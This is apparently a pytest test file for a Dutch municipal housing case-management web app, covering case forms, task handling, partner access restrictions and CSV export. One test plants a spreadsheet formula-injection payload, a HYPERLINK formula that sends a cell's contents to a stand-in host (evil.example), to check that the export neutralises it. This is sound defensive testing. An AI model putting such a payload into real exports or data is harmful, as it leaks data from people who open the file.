"""The case pages through HTTP, and the partner rule on every path to case data."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest

from django.urls import reverse
from django.utils import timezone

from goedwonen.casussen.models import Casus, Taak
from goedwonen.casussen.services.case_tasks import taak_create
from goedwonen.core.policy import Capability
from tests.scenario import share_case

pytestmark = pytest.mark.django_db


def test_the_director_makes_a_case_from_the_triaged_report(client, triaged, regisseur):
    client.force_login(regisseur)
    page = client.get(reverse("melding", args=[triaged.pk])).content.decode()
    assert reverse("casus-nieuw", args=[triaged.pk]) in page
    form = client.get(reverse("casus-nieuw", args=[triaged.pk])).content.decode()
    assert "Carnisselaan 10" in form  # the report's address (not in the proposed title)
    response = client.post(
        reverse("casus-nieuw", args=[triaged.pk]),
        {
            "titel": "Carnisse 10",
            "categorieen": ["overbewoning", "kamerverhuur"],
            "casusregisseur": str(regisseur.pk),
        },
    )
    casus = Casus.objects.get()
    assert response["Location"] == reverse("casus", args=[casus.referentie])
    assert casus.categorieen == ["overbewoning", "kamerverhuur"]
    detail = client.get(response["Location"]).content.decode()
    assert "Casus aangemaakt" in detail and triaged.referentie in detail
    # The report page now points at its case; a second case from it is not offered.
    again = client.get(reverse("casus-nieuw", args=[triaged.pk]))
    assert again["Location"] == reverse("casus", args=[casus.referentie])


def test_form_errors_keep_what_was_entered(client, triaged, regisseur):
    client.force_login(regisseur)
    response = client.post(
        reverse("casus-nieuw", args=[triaged.pk]),
        {"titel": "Mijn titel", "categorieen": [], "casusregisseur": str(regisseur.pk)},
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert 'value="Mijn titel"' in page and 'aria-invalid="true"' in page
    assert not Casus.objects.exists()


def test_a_director_action_with_an_error_shows_it_next_to_the_field(client, casus, regisseur):
    client.force_login(regisseur)
    url = reverse("casus-delen", args=[casus.referentie])
    response = client.post(url, {"delen-rol": "wijkagent", "delen-doel": "Controle"})
    page = response.content.decode()
    assert response.status_code == 200
    assert "Controleer het formulier" in page and 'value="wijkagent"' in page
    assert not casus.delingen.exists()


def test_the_police_complete_their_task_on_the_page(
    client, casus, regisseur, politie, partner_organisatie
):
    share_case(casus, regisseur, partner_organisatie)
    taak = taak_create(
        actor=regisseur,
        casus=casus,
        titel="Controle samen met SB",
        organisatie=partner_organisatie,
        deadline=timezone.localdate() + timedelta(days=7),
    )
    client.force_login(politie)
    queue = client.get(reverse("taken")).content.decode()
    assert "Controle samen met SB" in queue
    response = client.post(
        reverse("taak-afronden", args=[casus.referentie, taak.pk]),
        {f"taak{taak.pk}-uitkomst": "Zes personen aangetroffen"},
    )
    assert response.status_code == 302
    assert Taak.objects.get(pk=taak.pk).uitkomst == "Zes personen aangetroffen"


@pytest.fixture
def visit_and_document(casus, regisseur, make_user):
    """A recorded visit and a document on the case: the paths to them must not leak either."""
    from datetime import date

    from goedwonen.documenten.services import document_upload
    from goedwonen.inspecties.services import bezoek_record
    from goedwonen.intake.attachments import CheckedFile

    inspecteur = make_user([Capability.INSPECTIONS_RECORD, Capability.CASES_VIEW])
    bezoek = bezoek_record(
        actor=inspecteur,
        casus=casus,
        object=casus.objecten.get(),
        soort="straatbezoek",
        datum=date(2026, 7, 1),
        opmerkingen="Busjes in de ochtend",
    )
    document = document_upload(
        actor=regisseur,
        casus=casus,
        bestand=CheckedFile(b"%PDF-1.4\n%%EOF\n", "application/pdf", ".pdf", "verslag.pdf"),
    )
    return bezoek, document


def _canaries(casus):
    """What only the case shows: its reference, its title, its timeline text."""
    return [casus.referentie, casus.titel, "Casus aangemaakt"]


@pytest.mark.parametrize(
    "path",
    [
        lambda c: reverse("casussen"),
        lambda c: reverse("casussen") + "?wachtrij=gedeeld&status=",
        lambda c: reverse("casussen") + f"?zoek={c.referentie}&status=",
        lambda c: reverse("casussen") + "?zoek=Carnisselaan&status=",
        lambda c: reverse("casus", args=[c.referentie]),
        lambda c: reverse("taken") + "?wachtrij=organisatie",
        lambda c: reverse("adres", args=["0599200000000001"]),
        lambda c: reverse("eigenaar", args=["E1"]),
        lambda c: reverse("casussen-export") + "?status=",
        lambda c: reverse("casussen-export") + "?wachtrij=gedeeld&status=",
        lambda c: reverse("api-meldingen"),
        lambda c: reverse("api-casussen"),
        lambda c: reverse("api-casussen") + f"?zoek={c.referentie}",
        lambda c: reverse("api-casus", args=[c.referentie]),
        lambda c: reverse("bezoek", args=[c.referentie, c.bezoeken.get().pk]),
        lambda c: reverse("document-downloaden", args=[c.referentie, c.documenten.get().pk]),
    ],
    ids=[
        "lijst",
        "gedeeld",
        "zoek-kenmerk",
        "zoek-straat",
        "detail",
        "taken",
        "adres",
        "eigenaar",
        "export",
        "export-gedeeld",
        "api-meldingen",
        "api-casussen",
        "api-zoek",
        "api-casus",
        "bezoek",
        "document",
    ],
)
def test_a_partner_gets_nothing_of_an_unshared_case_on_any_path(
    client, casus, visit_and_document, make_user, partner_organisatie, path
):
    """Even a partner user holding every capability sees nothing of a case that was not
    shared with its organisation."""
    partner = make_user(list(Capability), organisatie_=partner_organisatie)
    client.force_login(partner)
    url = path(casus)
    response = client.get(url)
    # The search box and an error's `instance` repeat what the partner asked for; that is not
    # the case's data.
    body = re.sub(r'value="[^"]*"', "", response.content.decode()).replace(url.split("?")[0], "")
    assert response.status_code in {200, 404}
    for canary in _canaries(casus):
        assert canary not in body, f"{canary!r} leaked"


def test_the_api_shows_a_partner_only_the_shared_parts(
    client, casus, regisseur, politie, partner_organisatie
):
    share_case(casus, regisseur, partner_organisatie)
    client.force_login(politie)
    body = client.get(reverse("api-casus", args=[casus.referentie])).json()
    assert body["referentie"] == casus.referentie
    assert (body["gedeeldeOnderdelen"], body["adressen"], body["taken"]) == (["taken"], None, [])
    listed = client.get(reverse("api-casussen")).json()
    assert [c["referentie"] for c in listed["results"]] == [casus.referentie]
    client.force_login(regisseur)
    full = client.get(reverse("api-casus", args=[casus.referentie])).json()
    assert full["adressen"][0]["nummeraanduiding"] == "0599200000000001"


def test_the_export_is_the_filtered_list_and_is_logged(client, casus, regisseur):
    from goedwonen.core.models import Verwerkingslog

    client.force_login(regisseur)
    response = client.get(reverse("casussen-export"))
    assert response["Content-Disposition"] == 'attachment; filename="casussen.csv"'
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "referentie;titel;status;categorieen;regie;aangemaakt_op"
    assert lines[1].startswith(f"{casus.referentie};Carnisse 10: overbewoning;Geregistreerd;")
    assert Verwerkingslog.objects.filter(name="Casuslijst geëxporteerd").count() == 1


def test_the_export_lets_no_formula_through(client, triaged, regisseur):
    import csv
    import io

    from goedwonen.casussen.services.cases import casus_create

    title = '=HYPERLINK("https://evil.example/?d="&A1,"Open de casus")'
    casus = casus_create(
        actor=regisseur,
        titel=title,
        categorieen=["overbewoning"],
        casusregisseur=regisseur,
        meldingen=[triaged],
    )
    client.force_login(regisseur)
    body = client.get(reverse("casussen-export")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][:3] == [casus.referentie, "'" + title, "Geregistreerd"]


def test_the_address_page_lists_the_cases_the_viewer_may_see(
    client, casus, make_user, partner_organisatie
):
    url = reverse("adres", args=["0599200000000001"])
    # A colleague in the directing organisation sees it; a partner it was not shared with not.
    client.force_login(make_user([Capability.REGISTRY_VIEW, Capability.CASES_VIEW]))
    assert casus.referentie in client.get(url).content.decode()
    outsider = make_user(
        [Capability.REGISTRY_VIEW, Capability.CASES_VIEW], organisatie_=partner_organisatie
    )
    client.force_login(outsider)
    assert casus.referentie not in client.get(url).content.decode()


def test_a_case_on_an_address_without_a_report(client, city, regisseur):
    client.force_login(regisseur)
    url = reverse("casus-nieuw-adres")
    data = {
        "herkomst": "casustafel",
        "postcode": "3083 ab",
        "huisnummer": "999",
        "titel": "Ingebracht aan de casustafel",
        "categorieen": ["woonoverlast"],
        "casusregisseur": str(regisseur.pk),
    }
    missing = client.post(url, data)
    assert "Dit adres staat niet in de registratie." in missing.content.decode()
    assert 'value="Ingebracht aan de casustafel"' in missing.content.decode()
    response = client.post(url, data | {"huisnummer": "10"})
    casus = Casus.objects.get()
    assert response["Location"] == reverse("casus", args=[casus.referentie])
    assert (casus.herkomst, casus.objecten.get().adres.huisnummer) == ("casustafel", 10)


def test_the_director_adds_a_party_described_not_named(client, casus, regisseur):
    client.force_login(regisseur)
    url = reverse("partij-toevoegen", args=[casus.referentie])
    error = client.post(url, {"partij-rol": "bewoners"})
    assert "Beschrijf de partij" in error.content.decode()
    client.post(url, {"partij-rol": "bewoners", "partij-omschrijving": "6 bewoners"})
    client.post(url, {"partij-rol": "verhuurder", "partij-eigenaar_id": "E1"})
    assert sorted(casus.partijen.values_list("rol", "omschrijving")) == [
        ("bewoners", "6 bewoners"),
        ("eigenaar", ""),
        ("verhuurder", ""),
    ]
    page = client.get(reverse("casus", args=[casus.referentie])).content.decode()
    assert "Bewoners: 6 bewoners" in page


def test_the_list_filters_by_area_owner_and_director(client, casus, regisseur, make_user):
    client.force_login(regisseur)

    def listed(**query):
        page = client.get(reverse("casussen"), query).content.decode()
        return casus.referentie in page

    assert listed(buurt="BU05991572") and not listed(buurt="BU05991571")
    assert listed(eigenaar="E1") and listed(eigenaar="jansen") and not listed(eigenaar="E9")
    other = make_user([Capability.CASES_DIRECT], username="andere-regisseur")
    assert listed(regisseur=str(regisseur.pk)) and not listed(regisseur=str(other.pk))


def _options(page: str, name: str) -> list[tuple[str, bool]]:
    """The options of the select named `name`: (value, whether it is preselected)."""
    select = re.search(rf'<select name="{name}"[^>]*>(.*?)</select>', page, re.S)
    assert select is not None, name
    return [
        (value, bool(selected))
        for value, selected in re.findall(r'<option value="([^"]*)"( selected)?', select.group(1))
    ]


def test_no_form_on_the_case_page_chooses_who_gets_the_data(client, casus, regisseur, politie):
    """Sharing, a task and a letter go to the organisation or addressee the person picks:
    the select starts on an empty choice, and posting it empty changes nothing."""
    client.force_login(regisseur)
    page = client.get(reverse("casus", args=[casus.referentie])).content.decode()
    for name in ("delen-organisatie", "taak-organisatie", "brief-partij"):
        options = _options(page, name)
        assert options[0] == ("", True), name
        assert [value for value, selected in options if selected] == [""], name
    assert '<option value="" selected>— kies —</option>' in page
    response = client.post(
        reverse("casus-delen", args=[casus.referentie]),
        {
            "delen-organisatie": "",
            "delen-rol": "wijkagent",
            "delen-doel": "Controle",
            "delen-grondslag": "Wpg art. 16",
            "delen-onderdelen": ["objecten"],
            "delen-tot": (timezone.localdate() + timedelta(days=30)).isoformat(),
        },
    )
    assert response.status_code == 200
    assert response.context["share_form"].errors == {"organisatie": ["Dit veld is vereist."]}
    response = client.post(
        reverse("casus-taak", args=[casus.referentie]),
        {
            "taak-titel": "Controle",
            "taak-organisatie": "",
            "taak-deadline": (timezone.localdate() + timedelta(days=7)).isoformat(),
        },
    )
    assert response.context["taak_form"].errors == {"organisatie": ["Dit veld is vereist."]}
    assert (casus.delingen.count(), casus.taken.count()) == (0, 0)


def test_a_second_open_case_on_an_address_needs_a_confirmation(client, casus, regisseur):
    """The address form warns of the open case on the address, with a link to it, and makes
    the second case only once the director confirms it beside that case."""
    client.force_login(regisseur)
    url = reverse("casus-nieuw-adres")
    data = {
        "herkomst": "casustafel",
        "postcode": "3083AB",
        "huisnummer": "10",
        "titel": "Ingebracht aan de casustafel",
        "categorieen": ["woonoverlast"],
        "casusregisseur": str(regisseur.pk),
    }
    response = client.post(url, data)
    assert response.status_code == 200
    page = response.content.decode()
    assert f'<a class="utrecht-link" href="{reverse("casus", args=[casus.referentie])}">' in page
    assert response.context["form"].errors == {
        "naast_open_casussen": [
            f"Op dit adres loopt al een open casus: {casus.referentie}. Bekijk die eerst; "
            "bevestig als u toch een nieuwe casus wilt."
        ]
    }
    assert f'name="naast_open_casussen" value="{casus.referentie}"' in page
    assert Casus.objects.count() == 1
    response = client.post(url, data | {"naast_open_casussen": [casus.referentie]})
    second = Casus.objects.exclude(pk=casus.pk).get()
    assert response["Location"] == reverse("casus", args=[second.referentie])


def test_a_case_from_a_report_warns_of_the_open_case_on_its_address(client, triaged, regisseur):
    from goedwonen.casussen.services.cases import casus_create
    from goedwonen.intake.services.registration import melding_register
    from tests.scenario import CARNISSE_10

    # A second report on the address, registered before its case was made (a report that
    # comes in later joins the open case by itself).
    melding = melding_register(
        actor=regisseur,
        bron="telefoon",
        categorie="woonoverlast",
        omschrijving="Geluid",
        adres=CARNISSE_10,
        melder_soort="bewoner",
    ).melding
    casus = casus_create(
        actor=regisseur,
        titel="Carnisse 10",
        categorieen=["overbewoning"],
        casusregisseur=regisseur,
        meldingen=[triaged],
    )
    client.force_login(regisseur)
    url = reverse("casus-nieuw", args=[melding.pk])
    page = client.get(url).content.decode()
    assert "Op dit adres loopt al een open casus:" in page
    assert f'href="{reverse("casus", args=[casus.referentie])}"' in page
    data = {"titel": "Geluid", "categorieen": ["woonoverlast"], "casusregisseur": regisseur.pk}
    assert client.post(url, data).status_code == 200
    assert Casus.objects.count() == 1
    response = client.post(url, data | {"naast_open_casussen": [casus.referentie]})
    assert (Casus.objects.count(), response.status_code) == (2, 302)


def test_closing_a_case_warns_of_open_tasks_and_tells_the_reporter(
    client, city, regisseur, run_worker
):
    """A resident's report becomes a case; the director closes the case. The close form
    lists the open task and closes nothing until that is confirmed; then the task lapses,
    the report closes, and the resident reads the outcome on the status page and by mail."""
    import re as _re

    from django.core import mail
    from django.core.cache import cache

    from goedwonen.casussen.services.cases import casus_create
    from goedwonen.intake.models import Melding
    from goedwonen.intake.services.triage import melding_triage

    cache.clear()  # the reporting point's rate limit
    reported = client.post(
        reverse("melden"),
        {
            "postcode": "3083AB",
            "huisnummer": "10",
            "categorie": "overbewoning",
            "omschrijving": "Er slapen minstens tien mensen in deze woning.",
            "email": "sanne@example.nl",
        },
    )
    assert reported.status_code == 302
    confirmation = client.get(reverse("melden-ontvangen")).content.decode()
    status_link = _re.search(r'id="statuslink">(http[^<]+)<', confirmation)[1]
    referentie = _re.search(r'id="kenmerk">([A-Z0-9-]+)<', confirmation)[1]
    melding = Melding.objects.get(referentie=referentie)
    melding = melding_triage(
        actor=regisseur,
        melding=melding,
        uitkomst="multi",
        reden="Overbewoning",
        casusregisseur=regisseur,
    )
    casus = casus_create(
        actor=regisseur,
        titel="Carnisse 10",
        categorieen=["overbewoning"],
        casusregisseur=regisseur,
        meldingen=[melding],
    )
    taak = taak_create(
        actor=regisseur,
        casus=casus,
        titel="Nacontrole",
        organisatie=regisseur.organisatie,
        deadline=timezone.localdate() + timedelta(days=7),
    )
    run_worker()
    mail.outbox.clear()
    client.force_login(regisseur)
    page = client.get(reverse("casus", args=[casus.referentie])).content.decode()
    assert 'id="sluiten-open-taken"' in page and "Nacontrole" in page
    url = reverse("casus-afsluiten", args=[casus.referentie])
    data = {"sluiten-resultaat": "toezicht", "sluiten-reden": "Hersteld"}
    response = client.post(url, data)
    assert response.status_code == 200
    assert response.context["close_form"].errors == {
        "taken_laten_vervallen": [
            "Er staat nog een open taak: 'Nacontrole'. Bevestig dat die vervalt, of laat haar "
            "eerst afronden."
        ]
    }
    casus.refresh_from_db()
    taak.refresh_from_db()
    assert (casus.status, taak.status) == ("geregistreerd", "open")
    assert Melding.objects.get(pk=melding.pk).status == "casusregie"

    response = client.post(url, data | {"sluiten-taken_laten_vervallen": "on"})
    assert response.status_code == 302
    casus.refresh_from_db()
    taak.refresh_from_db()
    assert (casus.status, taak.status) == ("gesloten", "vervallen")
    assert Melding.objects.get(pk=melding.pk).status == "afgesloten"
    outcome = (
        "Uw melding is onderzocht en de behandeling is afgerond. Waar iets niet in orde "
        "was, is dat hersteld."
    )
    client.logout()
    status = client.get(status_link).content.decode()
    assert (
        f'<p class="utrecht-alert__message utrecht-paragraph" id="huidige-status">{outcome}</p>'
        in status
    )
    assert "samen met partners opgepakt" in status  # the history stays
    run_worker()
    assert [(m.to, m.body.split("\n")[0]) for m in mail.outbox] == [(["sanne@example.nl"], outcome)]


def test_standard_tasks_on_the_page_name_the_organisation_to_share_with_first(
    client, casus, regisseur
):
    from goedwonen.accounts.models import Organisatie, Organisatiesoort
    from goedwonen.casussen.services.case_tasks import taak_templates

    dv = Organisatie.objects.create(
        code="dv", naam="Dienstverlening", soort=Organisatiesoort.INTERN
    )
    Organisatie.objects.create(code="sb", naam="Stadsbeheer", soort=Organisatiesoort.KERNCLUSTER)
    share_case(casus, regisseur, dv)
    pks = {s.titel: str(s.pk) for s in taak_templates(casus=casus)}
    client.force_login(regisseur)
    page = client.get(reverse("casus", args=[casus.referentie])).content.decode()
    assert page.count("BRP-adresonderzoek — DV") == 1
    url = reverse("casus-sjablonen", args=[casus.referentie])
    # Only the task that cannot be made: the form says why, and nothing is made.
    response = client.post(url, {"sjabloon-sjablonen": [pks["Woningbezoek"]]})
    assert response.context["sjablonen_form"].errors == {
        "sjablonen": [
            "'Woningbezoek' niet uitgezet: Deel de casus eerst met Stadsbeheer (met het "
            "onderdeel taken)."
        ]
    }
    assert not Taak.objects.exists()
    # Both: the one that can be made is, the other is named with its organisation.
    response = client.post(
        url,
        {"sjabloon-sjablonen": [pks["BRP-adresonderzoek"], pks["Woningbezoek"]]},
        follow=True,
    )
    assert [str(m) for m in response.context["messages"]] == [
        "'Woningbezoek' niet uitgezet: Deel de casus eerst met Stadsbeheer (met het onderdeel "
        "taken).",
        "1 taak uitgezet: 'BRP-adresonderzoek' bij Dienstverlening.",
    ]
    assert list(Taak.objects.values_list("titel", "organisatie__code")) == [
        ("BRP-adresonderzoek", "dv")
    ]
